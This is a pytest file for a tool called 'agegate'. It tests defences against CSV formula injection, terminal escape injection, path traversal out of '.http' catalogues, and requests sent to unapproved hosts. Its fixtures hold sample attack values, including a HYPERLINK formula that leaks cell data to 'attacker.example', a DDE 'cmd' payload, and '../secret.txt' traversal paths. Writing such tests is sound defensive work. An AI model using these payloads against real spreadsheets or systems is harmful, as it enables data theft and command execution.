"""Attacks through the tools: stored ids that become spreadsheet formulas or
terminal escapes, and `.http` catalogues that read files or send requests
where they should not. Each runs the `agegate` command as a user does."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_support import agegate
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from agegate.apps.serve import serve
from agegate.flags import Flag, SqliteFlagStore
from agegate.safe_text import csv_cell, printable

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tleading-tab",
    "\rleading-cr",
]
FORGED = "a1\tremoved\tremove\nzz-forged\x1b[2J\x1b]0;pwned\x07\x9b31m\u202eevil"


@pytest.fixture
def store(tmp_path: Path) -> Path:
    path = tmp_path / "flags.sqlite"
    with SqliteFlagStore(path) as flags:
        flags.add_many(
            [
                Flag(account_id, ("MINOR_NOW",), "remove", "CA-BC", 19)
                for account_id in [*FORMULAS, FORGED, "plain-id"]
            ]
        )
    return path


# -- CSV formula injection ------------------------------------------------------


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _neutralised(value: str) -> bool:
    return not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_flags_export_csv_neutralises_formulas(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    done = agegate("flags", "export", "--store", str(store), "--out", str(out))
    assert done.returncode == 0, done.stderr
    rows = _csv(out)
    ids = [row["account_id"] for row in rows]
    assert sorted(ids) == sorted(["'" + f for f in FORMULAS] + [FORGED, "plain-id"])
    for row in rows:
        assert all(_neutralised(cell or "") for cell in row.values())
    # The JSON export is data, not a sheet: ids stay exactly as stored.
    done = agegate("flags", "export", "--store", str(store))
    assert "=HYPERLINK" in done.stdout
    assert "'=HYPERLINK" not in done.stdout


def test_review_flags_out_csv_neutralises_formulas(tmp_path: Path) -> None:
    accounts = tmp_path / "accounts.csv"
    with accounts.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["account_id", "birthdate", "country"])
        for account_id in FORMULAS:
            writer.writerow([account_id, "2014-05-05", "FR"])
    out = tmp_path / "x.csv"
    done = agegate(
        "review",
        str(accounts),
        "--flags-out",
        str(out),
        "--today",
        "2026-11-28",
    )
    assert done.returncode in (0, 1), done.stderr
    rows = _csv(out)
    assert len(rows) == len(FORMULAS)
    ids = {row["account_id"] for row in rows}
    # The reader trims whitespace around ids; the formulas remain.
    assert {"'" + f for f in FORMULAS[:4]} <= ids
    for row in rows:
        assert all(_neutralised(cell or "") for cell in row.values())


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("acct-1", "acct-1"),
        ("", ""),
        (19, 19),
        (None, None),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


# -- terminal injection ---------------------------------------------------------


def _no_controls(text: str) -> None:
    for line in text.splitlines():
        assert line.isprintable() or set(line) - set("\t") <= set(line)
        assert "\x1b" not in line
        assert "\x9b" not in line
        assert "\x07" not in line
        assert "\u202e" not in line


def test_flags_list_escapes_control_characters(store: Path) -> None:
    done = agegate("flags", "list", "--store", str(store))
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    # A header, then one line and nine columns per flag, whatever the ids hold.
    assert len(lines) == len(FORMULAS) + 3
    assert all(len(line.split("\t")) == 9 for line in lines)
    assert not any(line.startswith("zz-forged") for line in lines)
    forged = next(line for line in lines if line.startswith("a1"))
    assert forged.split("\t")[0] == (
        "a1\\tremoved\\tremove\\nzz-forged\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m\\u202eevil"
    )
    _no_controls(done.stdout)


def test_flags_show_and_resolve_escape_ids(store: Path) -> None:
    shown = agegate("flags", "show", FORGED, "--store", str(store))
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout
    assert "\n" + "zz-forged" not in shown.stdout
    resolved = agegate(
        "flags", "resolve", FORGED, "--status", "removed", "--by", "dana",
        "--why", "deleted", "--store", str(store),
    )  # fmt: skip
    assert resolved.returncode == 0, resolved.stderr
    assert resolved.stdout.count("\n") == 1
    assert "\x1b" not in resolved.stdout
    missing = agegate(
        "flags", "show", "no\x1b[31mone\nagegate: ok", "--store", str(store)
    )
    assert missing.returncode == 2
    assert "\x1b" not in missing.stderr
    assert missing.stderr.count("\n") == 1


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("acct-1", "acct-1"),
        ("a\nb", "a\\nb"),
        ("a\\nb", "a\\\\nb"),
        ("\x1b[31m", "\\x1b[31m"),
        ("\x85\x9b", "\\x85\\x9b"),
        ("\u2028\u202e\ufeff", "\\u2028\\u202e\\ufeff"),
        ("café ünï", "café ünï"),
    ],
)
def test_printable(text: str, shown: str) -> None:
    assert printable(text) == shown


# -- agegate qa stays inside its catalogue and on its host ----------------------


async def _echo(request: Request) -> Response:
    return JSONResponse({"body": (await request.body()).decode()})


@pytest.fixture(scope="module")
def echo() -> Iterator[str]:
    app = Starlette(routes=[Route("/echo", _echo, methods=["POST"])])
    with serve(app) as url:
        yield url


@pytest.fixture
def other_host() -> Iterator[tuple[str, list[bytes]]]:
    """A second server, standing for the host a hostile catalogue posts to."""
    received: list[bytes] = []

    async def collect(request: Request) -> Response:
        received.append(await request.body())
        return JSONResponse({})

    app = Starlette(routes=[Route("/collect", collect, methods=["POST"])])
    with serve(app) as url:
        yield url, received


def _catalogue(tmp_path: Path, body: str, url: str = "{{baseUrl}}/echo") -> Path:
    directory = tmp_path / "catalogue"
    directory.mkdir(exist_ok=True)
    (directory / "a.http").write_text(
        f"# @expect status 200\nPOST {url}\nContent-Type: text/plain\n\n{body}\n"
    )
    return directory


@pytest.mark.parametrize("name", ["../secret.txt", "sub/../../secret.txt"])
def test_qa_refuses_a_body_file_outside_the_catalogue(
    tmp_path: Path, echo: str, name: str
) -> None:
    (tmp_path / "secret.txt").write_text("TOP-SECRET")
    directory = _catalogue(tmp_path, f"< {name}")
    (directory / "sub").mkdir()
    done = agegate("qa", str(directory), "--base-url", echo)
    assert done.returncode == 2
    assert "a.http:2" in done.stderr
    assert "inside the directory" in done.stderr
    assert "TOP-SECRET" not in done.stdout + done.stderr
    assert "Traceback" not in done.stderr


def test_qa_refuses_an_absolute_body_file(tmp_path: Path, echo: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    directory = _catalogue(tmp_path, f"< {secret}")
    done = agegate("qa", str(directory), "--base-url", echo)
    assert done.returncode == 2
    assert "relative" in done.stderr
    assert "TOP-SECRET" not in done.stdout


def test_qa_refuses_a_symlink_out_of_the_catalogue(tmp_path: Path, echo: str) -> None:
    (tmp_path / "secret.txt").write_text("TOP-SECRET")
    directory = _catalogue(tmp_path, "< ./bodies/link.txt")
    (directory / "bodies").mkdir()
    (directory / "bodies" / "link.txt").symlink_to(tmp_path / "secret.txt")
    done = agegate("qa", str(directory), "--base-url", echo)
    assert done.returncode == 2
    assert "inside the directory" in done.stderr


def test_qa_sends_a_body_file_inside_the_catalogue(tmp_path: Path, echo: str) -> None:
    directory = _catalogue(tmp_path, "< ./bodies/ok.txt")
    (directory / "bodies").mkdir()
    (directory / "bodies" / "ok.txt").write_text("fine")
    (directory / "a.http").write_text(
        "# @expect status 200\n# @expect body fine\nPOST {{baseUrl}}/echo\n"
        "Content-Type: text/plain\n\n< ./bodies/ok.txt\n"
    )
    done = agegate("qa", str(directory), "--base-url", echo)
    assert done.returncode == 0, done.stdout + done.stderr


def test_qa_sends_nothing_to_another_host(
    tmp_path: Path, echo: str, other_host: tuple[str, list[bytes]]
) -> None:
    other, received = other_host
    directory = _catalogue(tmp_path, "stolen", url=f"{other}/collect")
    done = agegate("qa", str(directory), "--base-url", echo)
    assert done.returncode == 1
    assert "FAIL" in done.stdout
    assert "PASS" not in done.stdout
    assert "other than --base-url" in done.stdout
    assert received == []
    # The same port on another name, or another scheme, is another origin too.
    port = echo.rsplit(":", 1)[1]
    for url in (f"http://localhost:{port}/echo", f"https://127.0.0.1:{port}/echo"):
        _catalogue(tmp_path, "x", url=url)
        done = agegate("qa", str(directory), "--base-url", echo)
        assert done.returncode == 1
        assert "other than --base-url" in done.stdout
    # Allowed by name, it is sent.
    directory = _catalogue(tmp_path, "allowed", url=f"{other}/collect")
    host = other.removeprefix("http://")
    done = agegate("qa", str(directory), "--base-url", echo, "--allow-host", host)
    assert done.returncode == 0, done.stdout
    assert received == [b"allowed"]


def test_qa_refuses_a_bad_allow_host(tmp_path: Path, echo: str) -> None:
    directory = _catalogue(tmp_path, "x")
    for bad in ("http://x/y", "host:port", "a@b"):
        done = agegate("qa", str(directory), "--base-url", echo, "--allow-host", bad)
        assert done.returncode == 2
        assert "--allow-host" in done.stderr


@pytest.mark.parametrize(
    ("variables", "line"),
    [
        ("@a = {{b}}\n@b = {{a}}\n", 1),
        ("@a = x{{a}}\n", 1),
        ("@x = 1\n@a = {{b}}\n@b = {{c}}\n@c = {{a}}\n", 2),
    ],
)
def test_qa_self_referencing_variables_exit_2(
    tmp_path: Path, echo: str, variables: str, line: int
) -> None:
    path = tmp_path / "loop.http"
    path.write_text(variables + "\n# @expect status 200\nPOST {{a}}/echo\n")
    done = agegate("qa", str(path), "--base-url", echo)
    assert done.returncode == 2
    assert f"loop.http:{line}" in done.stderr
    assert "refers to itself" in done.stderr
    assert "Traceback" not in done.stderr


def test_qa_var_overrides_a_file_variable_and_cannot_loop(
    tmp_path: Path, echo: str
) -> None:
    path = tmp_path / "var.http"
    path.write_text(
        "@who = file\n# @expect status 200\n# @expect body cli\n"
        "POST {{baseUrl}}/echo\nContent-Type: text/plain\n\n{{who}}\n"
    )
    done = agegate("qa", str(path), "--base-url", echo, "--var", "who=cli")
    assert done.returncode == 0, done.stdout
    done = agegate("qa", str(path), "--base-url", echo, "--var", "who={{who}}")
    assert done.returncode == 1
    assert "refers to itself" in done.stdout
    done = agegate("qa", str(path), "--base-url", echo, "--var", "no-equals")
    assert done.returncode == 2


def test_qa_table_escapes_what_files_and_answers_hold(
    tmp_path: Path, echo: str
) -> None:
    path = tmp_path / "evil.http"
    path.write_text(
        "# @expect status 200\n# @expect body \x1b[2Jgone\n"
        "POST {{baseUrl}}/echo?\x1b]0;x\x07\n"
    )
    done = agegate("qa", str(path), "--base-url", echo)
    assert "\x1b" not in done.stdout
    assert "\x07" not in done.stdout
    assert "\\x1b" in done.stdout
